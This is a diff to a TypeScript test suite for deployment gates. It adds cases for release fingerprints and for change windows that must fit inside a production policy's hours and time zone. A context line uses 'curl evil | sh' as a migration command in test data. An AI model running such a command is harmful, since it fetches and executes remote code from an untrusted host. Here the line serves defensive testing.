@@ -312,6 +312,8 @@ describe("a rollback passes every gate", () => {
         ["a new service", (g) => void (g.release.services.admin = { blue: "1.0.0", green: "1.0.0", weights: { blue: 100, green: 0 } })],
         ["the first deployment", (g) => void (g.release.deployed = null)],
         ["a service's migration command changes", (g) => void (g.release.services.frontend = { blue: "2.0.0", green: "2.0.0", weights: { blue: 100, green: 0 }, commands: { migration: "curl evil | sh" } })],
+        ["anything else changes with it (a server, a firewall, the program: the fingerprint)", (g) => void (g.release.fingerprint = { desired: "a".repeat(64), deployed: "f".repeat(64) })],
+        ["the last deployment recorded no fingerprint", (g) => void (g.release.fingerprint = { desired: "f".repeat(64), deployed: null })],
     ])("not a rollback when %s: the gates apply", async (_name, change) => {
         const found = await gateViolations((g) => (rollback(g), change(g)));
         expect(found).toEqual(expect.arrayContaining(EVIDENCE_GATES.map((policy) => NO_EVIDENCE(policy, "missing"))));
@@ -327,6 +329,7 @@ describe("gates-requirements-floor", () => {
             minCoveragePercent: 80,
             requireStagingFirst: true,
             requireChangeWindow: true,
+            changeWindow: { days: ["mon", "tue", "wed", "thu"], start: "09:00", end: "15:00", timezone: "Europe/Vienna" },
         },
     };
     const FLOOR = (below: string): string =>
@@ -334,6 +337,10 @@ describe("gates-requirements-floor", () => {
 
     test("requirements at the floor pass; without a floor in the policy config any requirements pass", async () => {
         expect(await gateViolations(() => {}, PRODUCTION_FLOOR)).toEqual([]);
+        // A narrower window inside the policy's passes.
+        expect(
+            await gateViolations((g) => void (g.requirements.changeWindow = { days: ["tue", "wed"], start: "10:00", end: "12:00", timezone: "Europe/Vienna" }), PRODUCTION_FLOOR),
+        ).toEqual(expect.not.arrayContaining([expect.stringContaining("gates-requirements-floor")]));
         expect(await gateViolations((g) => void (g.requirements.minApprovals = 0), {})).toEqual(
             expect.not.arrayContaining([expect.stringContaining("gates-requirements-floor")]),
         );
@@ -346,6 +353,26 @@ describe("gates-requirements-floor", () => {
         ["less coverage", (g) => void (g.requirements.minCoveragePercent = 50), "minCoveragePercent is 50, at least 80"],
         ["staging first off", (g) => void (g.requirements.requireStagingFirst = false), "requireStagingFirst is false, must be true"],
         ["no change window", (g) => void delete g.requirements.changeWindow, "changeWindow is not set, one is required"],
+        [
+            "a window of every day, 00:01 to 00:00 (open all week but a minute)",
+            (g) => void (g.requirements.changeWindow = { days: ["mon", "tue", "wed", "thu", "fri", "sat", "sun"], start: "00:01", end: "00:00", timezone: "Europe/Vienna" }),
+            "changeWindow must lie inside the policy's window: it is open on mon at 00:01, outside mon, tue, wed, thu 09:00-15:00",
+        ],
+        [
+            "a window on friday",
+            (g) => void (g.requirements.changeWindow = { days: ["tue", "fri"], start: "10:00", end: "12:00", timezone: "Europe/Vienna" }),
+            "changeWindow must lie inside the policy's window: it is open on fri at 10:00, outside mon, tue, wed, thu 09:00-15:00",
+        ],
+        [
+            "a window that runs past the policy's end",
+            (g) => void (g.requirements.changeWindow = { days: ["mon"], start: "14:00", end: "16:00", timezone: "Europe/Vienna" }),
+            "changeWindow must lie inside the policy's window: it is open on mon at 15:00, outside mon, tue, wed, thu 09:00-15:00",
+        ],
+        [
+            "a window in another time zone",
+            (g) => void (g.requirements.changeWindow = { days: ["mon"], start: "09:00", end: "10:00", timezone: "UTC" }),
+            "changeWindow must lie inside the policy's window: its time zone UTC is not Europe/Vienna",
+        ],
     ])("%s is below production's floor, also in a rollback", async (_name, change, below) => {
         const found = await gateViolations(change, PRODUCTION_FLOOR);
         expect(found.filter((v) => v.startsWith("gates-requirements-floor"))).toEqual([FLOOR(below)]);
